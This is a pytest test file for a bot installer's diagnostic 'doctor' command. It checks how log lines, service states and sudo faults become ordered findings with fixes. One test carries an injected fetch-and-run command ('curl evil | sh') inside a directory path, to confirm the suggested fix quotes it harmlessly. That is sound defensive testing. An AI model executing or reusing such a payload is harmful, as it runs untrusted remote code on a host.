"""What is said about a silent bot. tests/machine/test_doctor.py plants it on a real host."""

import re
import socket
from typing import Any

import pytest
from samples import TOKEN, probe, user, variables
from test_host_status import BINARY, CHANGE, ROLLED_BACK, SERVICE, installed

from kai_ansible.commands.doctor import about_token
from kai_ansible.rules.configuration import read_configuration
from kai_ansible.rules.contract import Contract
from kai_ansible.rules.desired_state import desired_state
from kai_ansible.rules.diagnosis import (
    STAGES,
    Finding,
    causes_in,
    checkup_request,
    diagnosis,
    owner_of,
    shown_in,
)
from kai_ansible.rules.problems import Problem
from kai_ansible.rules.readiness import LOG_OF_START
from kai_ansible.rules.run_plan import Subject, checkup_plan, findings_plan, use_usual_places
from kai_ansible.rules.status import host_status
from tests.cli.bot_api import serving

NO_FAULTS: dict[str, Any] = {"faults": [], "trespasses": [], "policy": "", "log": []}
CRASHED = {**SERVICE, "state": "activating", "pid": None, "restarts": 4}
STOPPED = {**SERVICE, "active": False, "state": "inactive", "pid": None}
GIVEN_UP = {**STOPPED, "state": "failed"}
SYSTEMD = "2026-01-02T03:04:05+0000 systemd[1]: kai.service: Scheduled restart job"


def found(
    contract: Contract,
    *people: dict[str, Any],
    checkup: dict[str, Any] | None = None,
    settings: dict[str, Any] | None = None,
    seen: dict[str, Any] | None = None,
    **more: Any,
) -> list[Finding]:
    """Return what is found on a host, where alice runs claude unless something else is said."""
    read = read_configuration(contract, variables(*people, **(settings or {})))
    looked = probe(
        installed=installed(**more),
        logins=[{"account": "alice", "backend": "claude", "logged_in": True}],
        **(seen or {}),
    )
    for candidates in looked["binaries"].values():
        for candidate in candidates:
            candidate.setdefault("version", "1.0")
    desired = None if read.problems else desired_state(read, looked)
    status = host_status(read, looked, desired, [])
    return diagnosis(read, looked, desired, status, {**NO_FAULTS, **(checkup or {})})


def log(*lines: str) -> dict[str, Any]:
    return {"log": [f"2026-01-02T03:04:05+0000 python[7]: {line}" for line in lines]}


def test_nothing_is_found_on_a_healthy_host(contract: Contract) -> None:
    assert found(contract) == []


def names(contract: Contract, line: str) -> list[str]:
    """Return the symptoms that a line shows."""
    return [one.name for one in contract.symptoms if re.search(one.pattern, line)]


def test_every_example_of_a_symptom_is_a_finding(contract: Contract) -> None:
    for symptom in contract.symptoms:
        for example in symptom.examples:
            [finding] = found(contract, checkup=log("INFO kai: listening", example))
            assert finding.stage == symptom.stage
            assert example in finding.evidence
            assert "{" not in finding.where + finding.cause + finding.fix


# Lines in our own words with the parts that a symptom looks for; tests/real/test_messages.py has
# the ones of a real Kai.
LINES = (
    (
        "user_refused",
        "users.yaml: user 'Bo' has invalid llm_provider 'x' here",
        "llm_provider of Bo",
    ),
    (
        *(
            "user_without_provider",
            "users.yaml: user 'Bo' has agent_backend='goose', no llm_provider is configured",
        ),
        "llm_provider of Bo",
    ),
    (
        "user_without_model",
        "users.yaml: user 'Bo' is on open-ended provider 'ollama'",
        "model of Bo",
    ),
    ("user_skipped", "users.yaml: skipping an entry", "/etc/kai/users.yaml"),
    ("user_skipped", "users.yaml: skipping entry without anything", "/etc/kai/users.yaml"),
    ("user_skipped", "users.yaml: invalid telegram_id 0: too small; skipping entry", "users.yaml"),
    ("user_skipped", "users.yaml: invalid role 'x' for Bo (one of some)", "/etc/kai/users.yaml"),
    ("user_skipped", "users.yaml: duplicate telegram_id 5", "/etc/kai/users.yaml"),
    ("user_value_ignored", "users.yaml: invalid model 'x' for Bo (none such)", "model of Bo"),
    (
        *(
            "user_value_ignored",
            "users.yaml: invalid timeout for Bo: invalid literal for int() with",
        ),
        "timeout of Bo",
    ),
    (
        "user_value_ignored",
        "users.yaml: invalid github_repos entry for Bo: x",
        "github_repos of Bo",
    ),
    ("user_value_ignored", "users.yaml: pr_review for Bo must be a boolean", "pr_review of Bo"),
    ("directory_missing", "users.yaml: home_workspace not found for Bo: /srv/b; no", "/srv/b"),
    ("directory_missing", "users.yaml: allowed_workspaces of Bo not found: /srv/b; no", "/srv/b"),
    ("directory_missing", "ALLOWED_WORKSPACES: skipping non-existent path: /srv/b", "/srv/b"),
    ("base_missing", "WORKSPACE_BASE is not an existing directory: /srv/b", "/srv/b"),
    ("users_unusable", "users.yaml: no 'users' key", "/etc/kai/users.yaml"),
    ("users_unusable", "/etc/kai/users.yaml: expected a mapping", "/etc/kai/users.yaml"),
    ("users_unusable", "Invalid YAML in /etc/kai/users.yaml: a tab", "/etc/kai/users.yaml"),
    ("users_unusable", "No user authorization configured", "/etc/kai/users.yaml"),
    ("services_unreadable", "Invalid YAML in protected services config: x", "services.yaml"),
    ("service_without_key", "Service 'a': env var X_KEY not set - skipping", "services.yaml: a"),
    ("services_ignored", "Service 'a': no mapping - skipping", "/etc/kai/services.yaml"),
    ("workspaces_ignored", "workspaces.yaml: /srv/b: no budget; skipping entry", "workspaces.yaml"),
    ("workspaces_ignored", "/etc/kai/workspaces.yaml is malformed", "/etc/kai/workspaces.yaml"),
    ("env_file_unreadable", "Cannot read env file /srv/b/env: not allowed", "/srv/b/env"),
    ("setting_refused", "TOTP_SESSION_MINUTES must be a number", "env: TOTP_SESSION_MINUTES"),
    ("setting_refused", "MEMORY_SEARCH_FLOOR must be between 0 and 1", "MEMORY_SEARCH_FLOOR"),
    ("setting_refused", "CLAUDE_AUTOCOMPACT_PCT must be 0-100", "env: CLAUDE_AUTOCOMPACT_PCT"),
    ("setting_refused", "AGENT_BACKEND 'x' is not valid here", "env: AGENT_BACKEND"),
    ("setting_refused", "LLM_PROVIDER '' is not valid for backend 'goose'", "env: LLM_PROVIDER"),
    ("setting_ignored", "Invalid GITHUB_NOTIFY_CHAT_ID: x (ignoring)", "GITHUB_NOTIFY_CHAT_ID"),
    ("model_refused", "DEFAULT_MODEL 'x' is not valid for codex", "env: DEFAULT_MODEL"),
    ("webhook_secret_missing", "TELEGRAM_WEBHOOK_SECRET (or another one) is required", "SECRET"),
    ("extraction_without_binary", "Memory extraction requires the 'claude' binary", "claude"),
    ("models_of_release", "MODEL_REGISTRY has codex rows that are unknown", "the live release"),
    ("agent_forbidden", "PermissionError: no: 'claude'", "claude"),
    ("agent_forbidden", "PermissionError: no: '/home/bo/bin/codex'", "/home/bo/bin/codex"),
    ("permission_denied", "PermissionError: no: '/home/bo/xcodex'", "/home/bo/xcodex"),
    ("permission_denied", "PermissionError: no: '/home/bo/codex/kai.db'", "/home/bo/codex/kai.db"),
    ("agent_ended", "Codex process EOF", "the log of the bot"),
    ("agent_ended", "RuntimeError: Goose process exited during handshake", "the log of the bot"),
    ("agent_silent", "TimeoutError: Goose ACP handshake timed out", "the log of the bot"),
)


@pytest.mark.parametrize(("name", "line", "where"), LINES, ids=[line for _, line, _ in LINES])
def test_a_line_of_a_family_is_explained_once(
    contract: Contract, name: str, line: str, where: str
) -> None:
    assert names(contract, line) == [name]
    [finding] = shown_in(contract, log(f"INFO kai.config WARNING {line}")["log"])
    assert finding.where.endswith(where)
    assert "{" not in finding.where + finding.cause + finding.fix


@pytest.mark.parametrize(
    "line",
    [
        "WORKSPACE_BASE in env is deprecated (users.yaml exists)",
        "ALLOWED_USER_IDS is set, but users.yaml is used",
        "users.yaml: no admin users defined",
        "workspaces.yaml: unrecognized model 'x' for /srv/b",
        "claude_user 'kai' matches bot process user",
        "telegram.error.Forbidden: Forbidden: bot was blocked by the user",
        "2026-01-02T03:04:05+00:00 sudo[60]:      kai : PWD=/opt/kai/releases/1 ; USER=root ; "
        "COMMAND=/usr/bin/cat /etc/kai/workspaces.yaml",
        "sudo: kai : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/cat /etc/kai/totp.secret",
    ],
)
def test_what_a_healthy_bot_says_is_no_finding(contract: Contract, line: str) -> None:
    assert list(shown_in(contract, log(line)["log"])) == []


JOURNAL = "2026-01-02T03:04:05+0000"


@pytest.mark.parametrize(
    ("line", "owner"),
    [
        (
            "python[7]: httpx.ConnectError: [Errno -3] Temporary failure in name resolution",
            "the bot",
        ),
        ("sudo[60]: unable to resolve host bot1: Name or service not known", "sudo"),
        ("python[7]: WARNING sudo: unable to resolve host bot1: Name or service not known", "sudo"),
        ("python[7]: sudo-rs: a password is required", "sudo"),
        ("sudo[60]: pam_unix(sudo:account): account kai has expired (account expired)", "PAM"),
        ("su[60]: pam_unix(su:auth): authentication failure", "PAM"),
        ("systemd[1]: kai.service: Failed with result 'exit-code'.", "systemd"),
        ("(python)[9]: kai.service: Failed at step CHDIR", "systemd"),
        ("kernel: Out of memory: Killed process 7 (python)", "the kernel"),
    ],
)
def test_a_line_is_known_by_whose_it_is(line: str, owner: str) -> None:
    assert owner_of(f"{JOURNAL} {line}") == owner


@pytest.mark.parametrize(
    ("line", "where", "cause"),
    [
        ("sudo[60]: unable to resolve host bot1: Name or service not known", "/etc/hosts", "sudo"),
        (
            "python[7]: sudo: unable to resolve host bot1: Temporary failure in name resolution",
            "/etc/hosts",
            "sudo",
        ),
        (
            "sudo[60]: pam_unix(sudo:account): account kai has expired (account expired)",
            "the",
            "PAM",
        ),
    ],
)
def test_what_another_program_says_is_no_fault_of_the_network(
    contract: Contract, line: str, where: str, cause: str
) -> None:
    [finding] = shown_in(contract, [f"{JOURNAL} {line}"])
    assert finding.stage == "sudo"
    assert finding.where.startswith(where)
    assert finding.cause.startswith(cause)
    assert " says: " in finding.evidence


@pytest.mark.parametrize(
    "line",
    [
        "systemd[1]: kai.service: Network is unreachable",
        "systemd[1]: Not logged in",
        "kernel: nfs: Name or service not known",
    ],
)
def test_words_of_the_bot_are_not_looked_for_in_others(contract: Contract, line: str) -> None:
    assert list(shown_in(contract, [f"{JOURNAL} {line}"])) == []


def test_the_network_is_still_found_in_the_words_of_the_bot(contract: Contract) -> None:
    line = f"{JOURNAL} python[7]: httpx.ConnectError: [Errno -2] Name or service not known"
    [finding] = shown_in(contract, [line])
    assert (finding.stage, finding.evidence) == ("telegram", line)


def test_a_finding_of_the_log_names_the_variable(contract: Contract) -> None:
    lines = ["WEBHOOK_PORT must be 1", "PR_REVIEW_TIMEOUT_S must be 2", "WEBHOOK_PORT must be 3"]
    port, timeout = shown_in(contract, lines)
    assert port.evidence == "WEBHOOK_PORT must be 3 (2 lines like this)"
    assert port.fix.endswith("the value of kai_install_webhook_port")
    assert timeout.fix.endswith("the value of kai_install_pr_review_timeout_s")
    [unknown] = shown_in(contract, ["Service 'a': env var MY_KEY not set - skipping"])
    assert "kai_install_secret_extra_env.MY_KEY" in unknown.fix


def test_what_a_log_says_is_no_command_in_a_fix(contract: Contract) -> None:
    [finding] = shown_in(
        contract, ["WORKSPACE_BASE is not an existing directory: /x; curl evil | sh"]
    )
    assert "mkdir -p '/x; curl evil | sh')" in finding.fix


def test_the_last_line_of_a_symptom_is_shown_and_how_many_there_are(contract: Contract) -> None:
    [finding] = found(contract, checkup=log(*["sudo: a password is required"] * 3, "fine"))
    assert finding.evidence.endswith("sudo: a password is required (3 lines like this)")


def test_what_blocks_the_rest_comes_first(contract: Contract) -> None:
    findings = found(
        contract,
        service=STOPPED,
        seen={"port": ["process 9 of bob (nc)"], "binaries": {"claude": []}},
        checkup={
            **log("telegram.error.NetworkError"),
            "faults": [
                {"stage": "sudo", "what": "the bot reads it", "argv": ["sudo"], "said": "no"}
            ],
        },
    )
    stages = [finding.stage for finding in findings]
    assert stages == sorted(stages, key=STAGES.index)
    assert stages == ["host", "sudo", "service", "agents", "telegram"]


def test_host_vars_that_are_invalid_are_reported_before_anything_else(contract: Contract) -> None:
    first, *_ = found(contract, settings={"WEBHOOK_PORT": 70000}, service=CRASHED)
    assert (first.stage, first.where) == ("host_vars", "kai_install_webhook_port")


@pytest.mark.parametrize(
    ("service", "said", "cause", "fix"),
    [
        (STOPPED, ["INFO stopped"], "it was stopped", "systemctl start kai.service"),
        (GIVEN_UP, ["RuntimeError: x"], "by itself", "journalctl"),
        (CRASHED, ["ERROR it ended"], "by itself", "journalctl"),
        (CRASHED, ["Address already in use"], "another finding in this list", "fix that first"),
    ],
)
def test_why_a_bot_does_not_run(
    contract: Contract, service: dict[str, Any], said: list[str], cause: str, fix: str
) -> None:
    checkup = log(*said)
    checkup["log"].append(SYSTEMD)
    findings = found(contract, service=service, health=None, checkup=checkup)
    [finding] = [one for one in findings if one.where == "kai.service"]
    assert cause in finding.cause
    assert fix in finding.fix
    assert all(line in finding.evidence for line in said)
    assert "systemd[1]" not in finding.evidence


def test_nothing_is_started_to_learn_what_the_bot_may_do(contract: Contract) -> None:
    people = [
        user(1, "Ada", os_user="alice"),
        user(2, "Cem", agent_backend="goose", llm_provider="ollama", model="llama"),
    ]
    read = read_configuration(contract, variables(*people))
    looked = probe(installed=installed())
    request = checkup_request(read, looked, desired_state(read, looked))
    commands = [command["argv"] for command in request["commands"]]
    for argv in commands:
        asks = argv[:4] == ["sudo", "-n", "-l", "-u"]
        assert asks or argv[:3] == ["sudo", "-n", "cat"] or argv[0] == "env"
    assert ["sudo", "-n", "-l", "-u", "alice", "--", "claude"] in [one[:7] for one in commands]
    assert request["service_user"] == "kai"


def test_without_the_account_of_the_service_nothing_is_run(contract: Contract) -> None:
    read = read_configuration(contract, variables())
    looked = probe(installed=installed())
    looked["accounts"] = {"kai": None, "alice": None}
    request = checkup_request(read, looked, desired_state(read, looked))
    assert request["service_user"] is None
    assert request["private_directories"] == []


def test_rules_are_reported_once_with_the_first_of_what_is_refused(contract: Contract) -> None:
    faults = [
        {"stage": "sudo", "what": f"it reads {number}", "argv": ["sudo", "-n"], "said": "no"}
        for number in range(9)
    ]
    [finding] = found(contract, checkup={"faults": faults})
    assert finding.where == "/etc/sudoers.d/kai"
    assert finding.evidence.endswith("it reads 2: no; and 6 more (tried: sudo -n)")


def test_another_process_on_the_port_is_no_matter_of_the_install(contract: Contract) -> None:
    [finding] = found(contract, strangers=["process 9 of bob (nc)"])
    assert finding.stage == "host"
    assert "another process" in finding.cause


def planned(contract: Contract, given: dict[str, Any]) -> Subject:
    """Return what a doctor's plan is made for."""
    read = read_configuration(contract, given)
    use_usual_places(read)
    return Subject(read, given, {}, lambda name, values: "")


def test_on_a_system_that_is_not_supported_nothing_is_tried(contract: Contract) -> None:
    fault = Problem("platform", "a Mac", "Linux", "install there").as_dict()
    seen = probe(platform="", faults=[fault], installed=installed())
    assert checkup_plan(planned(contract, variables()), seen) == {"problems": [fault]}


def test_only_what_is_secret_is_kept_out_of_the_log(contract: Contract) -> None:
    given = variables(extra_env={"OPEN": "1"}, secret_extra_env={"HIDDEN": "x"})
    plan = checkup_plan(planned(contract, given), probe(installed=installed()))
    keys = plan["checkup"]["secret_keys"]
    assert {"TELEGRAM_BOT_TOKEN", "HIDDEN"} <= set(keys)
    assert "OPEN" not in keys


@pytest.mark.parametrize(
    "wrong",
    [
        {"service_user": "no name!"},
        {"install_dir": 7},
        {"data_dir": "relative"},
        {"trust_user_binaries": "perhaps"},
        {"agent_backend": "none of them"},
        {"users": "nobody"},
        {"secret_extra_env": "text"},
    ],
    ids=lambda wrong: next(iter(wrong)),
)
def test_an_invalid_configuration_is_reported_and_the_host_probed(
    contract: Contract, wrong: dict[str, Any]
) -> None:
    subject, seen = (
        planned(contract, variables(**wrong)),
        probe(installed=installed(service=STOPPED)),
    )
    asked = checkup_plan(subject, seen)["checkup"]
    checkup = {"asked": asked, **NO_FAULTS, "log": log("sudo: a password is required")["log"]}
    first, *others = findings_plan(subject, seen, checkup)["findings"]
    assert (first["stage"], first["where"]) == ("host_vars", f"kai_install_{next(iter(wrong))}")
    assert [finding["stage"] for finding in others] == ["sudo", "service"]


def test_where_nothing_is_installed_nothing_else_is_tried(contract: Contract) -> None:
    nothing = {"live": None, "installs": [], "releases": [], "service": STOPPED, "health": None}
    first, *_ = found(contract, **nothing)
    assert (first.stage, first.where) == ("install", "the host")
    read = read_configuration(contract, variables())
    looked = probe(installed=installed(**nothing))
    request = checkup_request(read, looked, desired_state(read, looked))
    assert request["commands"] == []


def test_after_a_rollback_no_finding_advises_the_install_that_was_rolled_back(
    contract: Contract,
) -> None:
    findings = found(
        contract,
        installs=ROLLED_BACK,
        service=CRASHED,
        **CHANGE,
        checkup={
            **log("WEBHOOK_PORT must be an integer"),
            "faults": [{"stage": "sudo", "what": "it reads", "argv": ["sudo"], "said": "no"}],
            "trespasses": ["bob enters /x"],
        },
        seen={"binaries": {"claude": [{**BINARY, "fault": "alice cannot execute"}]}},
    )
    past = (
        "install 2 was rolled back on 2026-01-05 to install 1, and host_vars may still ask for it"
    )
    advised = [finding for finding in findings if "kai-ansible install" in finding.fix]
    assert {finding.stage for finding in advised} >= {"sudo", "files", "agents"}
    for finding in advised:
        assert finding.fix.startswith(f"{past}: correct them first; then ")
    [drift] = [finding for finding in findings if finding.where == "/x"]
    assert drift.cause.startswith(past)


def test_a_file_is_reported_once_with_the_first_of_what_differs(contract: Contract) -> None:
    changes = [
        {"path": f"/var/lib/kai/{name}", "before": "kai 0700", "after": "alice 0700"}
        for name in ("a", "b")
    ]
    findings = found(contract, layout={"changes": changes, "unseen": [], "refused": []})
    assert {finding.where for finding in findings} >= {"/var/lib/kai/a", "/var/lib/kai/b"}


def test_what_telegram_says_about_a_token() -> None:
    with serving() as (address, _):
        assert about_token(TOKEN, address.rstrip("/")) == []
        [refused] = about_token(TOKEN.swapcase(), address.rstrip("/"))
    assert "rejects the token (401" in refused.evidence
    with socket.create_server(("127.0.0.1", 0)) as taken:
        closed = taken.getsockname()[1]
    [silent] = about_token(TOKEN, f"http://127.0.0.1:{closed}")
    assert "could not be reached" in silent.evidence
    assert TOKEN not in refused.evidence + silent.evidence
    assert about_token(None, "http://127.0.0.1:1") == []


def test_a_failed_install_explains_the_log_that_it_prints(contract: Contract) -> None:
    refused = "telegram.error.InvalidToken: The token was rejected by the server."
    failure = f"kai is not healthy: nothing listens\n{LOG_OF_START}\nTraceback:\n{refused}\nmore"
    [cause] = causes_in(contract, failure)
    assert f"{refused} Likely cause: Telegram does not know the token. Fix: " in cause
    # the words of another program mean something else
    assert causes_in(contract, f"pip: {refused}") == []
